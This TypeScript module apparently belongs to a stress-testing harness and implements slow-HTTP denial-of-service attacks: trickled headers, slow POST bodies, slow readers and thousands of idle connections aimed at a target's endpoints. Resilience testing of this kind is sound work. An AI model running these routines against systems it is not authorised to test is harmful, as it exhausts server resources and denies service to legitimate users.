/** Connections that send or read almost nothing, and never end. */
import type { Socket } from 'node:net';
import type { Attack, Order, Tally } from '../types.js';
import { head, hold, share, sleep } from './sockets.js';

const HEADERS = 2_000;
const BODIES = 1_000;
const READERS = 200;
const IDLE = 10_000;
const TICK_MS = 1_000;
const PROMISED_BYTES = 100_000;
/** Enough that the buffers of the system do not hold all answers. */
const LIST = '/clusters/ehpc/users?limit=1000';

/** Runs `tick` for each connection every second until the time is over. */
const trickle = async (
  order: Order,
  tally: Tally,
  connections: number,
  begin: (socket: Socket) => void,
  tick: (socket: Socket, second: number) => void,
  more = {},
): Promise<void> => {
  const until = performance.now() + order.ms;
  const { sockets, close } = await hold(order, tally, share(order, connections), begin, more);
  for (let second = 0; performance.now() < until; second++) {
    for (const socket of sockets) if (!socket.destroyed && !socket.connecting) tick(socket, second);
    await sleep(Math.min(TICK_MS, Math.max(0, until - performance.now())));
  }
  close();
};

const byte = (socket: Socket): void => {
  socket.write('x');
};

export const slowHeaders: Attack = {
  caller: 'attacking',
  connections: HEADERS,
  prepare: (order) => (tally) =>
    trickle(
      order,
      tally,
      HEADERS,
      (socket) => {
        tally.sent += 1;
        socket.write(`GET /healthz HTTP/1.1\r\nhost: ${order.target.host}\r\nx-slow: `);
        socket.resume();
      },
      byte,
    ),
};

const TYPES = [
  ['application/json', '{"items":["'],
  ['text/csv', 'op,username,password\r\ncreate,'],
] as const;

export const slowBody: Attack = {
  caller: 'attacking',
  connections: BODIES,
  prepare: (order) => (tally) =>
    trickle(
      order,
      tally,
      BODIES,
      (socket) => {
        const [type, start] = TYPES[tally.sent % TYPES.length] ?? TYPES[0];
        tally.sent += 1;
        const headers = [`content-type: ${type}`, `content-length: ${PROMISED_BYTES}`];
        socket.write(`${head(order.target, 'POST /clusters/ehpc/users/batch', headers)}${start}`);
        socket.resume();
      },
      byte,
    ),
};

/** Each connection asks for a long list every second. Half of them never read, the others read a byte a second. */
export const slowReader: Attack = {
  caller: 'attacking',
  connections: READERS,
  prepare: (order) => async (tally) => {
    const request = head(order.target, `GET ${LIST}`);
    const demand = (socket: Socket): void => {
      tally.sent += 1;
      socket.write(request);
    };
    // The callback of `onread` says after each byte that no more is wanted; `resume` asks for the next one.
    const onread = { buffer: Buffer.alloc(1), callback: () => false };
    const half = { ...order, part: order.part * 2, parts: order.parts * 2 };
    const never = trickle(half, tally, READERS, (socket) => demand(socket.pause()), demand);
    const slowly = trickle(
      { ...half, part: half.part + 1 },
      tally,
      READERS,
      demand,
      (socket) => {
        demand(socket);
        socket.resume();
      },
      { onread },
    );
    await Promise.all([never, slowly]);
  },
};

/** Nothing at all is sent. */
export const idleConnections: Attack = {
  caller: 'attacking',
  connections: IDLE,
  prepare: (order) => (tally) =>
    trickle(
      order,
      tally,
      IDLE,
      (socket) => void socket.resume(),
      () => undefined,
    ),
};
